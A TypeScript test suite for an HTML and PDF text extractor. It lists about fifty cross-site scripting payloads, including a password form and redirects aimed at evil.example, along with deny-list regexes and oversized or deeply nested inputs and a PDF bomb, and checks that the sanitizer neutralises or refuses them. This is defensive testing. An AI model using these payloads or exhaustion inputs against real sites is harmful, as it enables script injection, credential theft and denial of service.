import assert from 'node:assert/strict';
import { test } from 'node:test';
import { extractPage } from './extract.ts';
import { extractAside } from './extract-aside.ts';
import { pdfBomb } from './testing/pdf.ts';

const url = 'https://example.org/';
const around = (part: string) =>
  `<p>A text to be read, with enough words to be one.</p>${part}<p>And its end.</p>`;

/** None of these may run, send word to anybody, or look like a part of our page. */
const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)">x</p>',
  '<p/onmouseover=alert(1)>x</p>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<math href="javascript:alert(1)"><mi>x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name=password><button>Send</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p class="button" data-behaviour="confirm" id="main">x</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<video><source onerror=alert(1)></video><audio src=x autoplay></audio>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://ok.example" target="_blank" ping="https://evil.example">x</a>',
  '<a href="//evil.example/x" onclick=alert(1)>x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x 2x">',
  '<input type=image src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p id="x" onfocus="alert(1)" tabindex=1 autofocus>x</p>',
  '<x-element onclick=alert(1)>x</x-element>',
  '<p \u0000onclick=alert(1)>x</p>',
  '"><img src=x onerror=alert(1)>',
  '<a href="https://example.org/\'><script>alert(1)</script>">x</a>',
];

test('nothing of a page runs, looks like ours, or calls anywhere but for its pictures and links', () => {
  for (const part of scripts) {
    const { html, text } = extractPage(around(part), url);
    const tags = [...html.matchAll(/<\/?([a-z0-9-]+)((?:[^>"]|"[^"]*")*)>/gi)];
    for (const [tag, name = '', attributes = ''] of tags) {
      assert.doesNotMatch(
        name,
        /script|style|svg|iframe|object|embed|form|input|base|meta|link|template|x-|video|audio|marquee|details/i,
        part,
      );
      assert.doesNotMatch(
        attributes,
        /\son\w+=|style=|class=|data-|srcset|ping=|target=|="\s*(?!https?:|mailto:|#)\w*script:|data:/i,
        `${part} → ${tag}`,
      );
      assert.doesNotMatch(attributes, / id="(?!text-)/, part);
    }
    assert.match(text, /A text to be read/, part);
  }
});

const many = (part: string, times: number) => part.repeat(times);

const broken: [what: string, html: string][] = [
  ['nothing', ''],
  ['no text', '<html><body><img src=x></body></html>'],
  ['half a tag', '<p>One two <a href="'],
  ['only ends', '</p></div></body></html>'],
  ['bytes of no text', '\u0000\u0001\ufffd<\u0000p>'],
  ['nested deep', `${many('<div>', 50_000)}deep`],
  ['nested in inline', `${many('<b><i>', 30_000)}deep`],
  ['quotes in quotes', `${many('<blockquote>', 20_000)}deep`],
  ['tables in tables', `${many('<table><tr><td>', 10_000)}deep`],
  ['lists in lists', `${many('<ul><li>a', 10_000)}`],
  ['many elements', many('<p>a</p>', 200_000)],
  ['many attributes', `<p ${many('a=b ', 200_000)}>x</p>`],
  ['a long attribute', `<p title="${many('a', 5_000_000)}">x</p>`],
  ['one long word', `<p>${many('a', 5_000_000)}</p>`],
  ['many signs', `<p>${many('&amp;&#x41;', 300_000)}</p>`],
  ['many spaces', `<title>${many(' ', 500_000)}x</title><p>x${many(' \n', 500_000)}y</p>`],
  ['open brackets', many('<', 500_000)],
  ['open comments', many('<!--', 200_000)],
  [
    'linked data that goes round',
    `<script type="application/ld+json">${many('[', 100_000)}</script><p>Read me.</p>`,
  ],
  ['a title of dashes', `<title>${many('- ', 200_000)}</title><p>Read me.</p>`],
  ['dates without end', `<p>${many('1 January ', 100_000)}</p>`],
];

test('pages that are broken, deep or huge are read or refused, and nobody else waits', async () => {
  let beats = 0;
  const beat = setInterval(() => {
    beats += 1;
  }, 10);
  for (const [what, html] of broken) {
    const reading = extractAside({ bytes: Buffer.from(html), url }, { milliseconds: 1500, megabytes: 256 });
    const said = await reading.then(
      ({ text }) => typeof text,
      (error) => error.message,
    );
    assert.match(said, /^string$|no text to read|too long to read|can’t read/, what);
  }
  clearInterval(beat);
  // Read on this thread, each page would have let one beat through at most.
  assert.ok(beats > 3 * broken.length, `${beats} beats while ${broken.length} pages were read`);
});

test('a PDF that unpacks to more than fits is given up', async () => {
  const reading = extractAside({ bytes: pdfBomb(256), url }, { milliseconds: 6000, megabytes: 32 });
  await assert.rejects(reading, /too long to read|can’t read|no text|isn’t a PDF/);
});

test('what is larger than 10 MB is not even opened', async () => {
  await assert.rejects(extractAside({ bytes: Buffer.alloc(10_000_001), url }), /at most 10 MB/);
});
